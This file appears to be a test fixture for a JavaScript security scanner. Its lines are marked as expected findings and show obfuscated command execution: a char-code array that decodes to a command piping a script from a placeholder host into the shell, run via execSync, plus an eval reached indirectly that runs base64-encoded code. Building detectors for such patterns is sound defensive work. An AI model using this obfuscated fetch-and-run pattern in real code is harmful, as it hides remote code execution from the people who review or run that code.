const cp = require("child_process");

const T = [119, 103, 101, 116, 32, 45, 113, 79, 45, 32, 104, 116, 116, 112, 115, 58, 47, 47, 117, 46, 101, 120, 97, 109, 112, 108, 101, 46, 110, 101, 116, 32, 124, 32, 115, 104];
cp.execSync(T.map((c) => String.fromCharCode(c)).join("")); // want: finding
cp.execSync(String.fromCharCode(...T)); // want: finding
Reflect.get(globalThis, ["ev", "al"].join(""))(Buffer.from("cmVxdWlyZSgib3MiKS5ob3N0bmFtZSgp", "base64").toString()); // want: finding
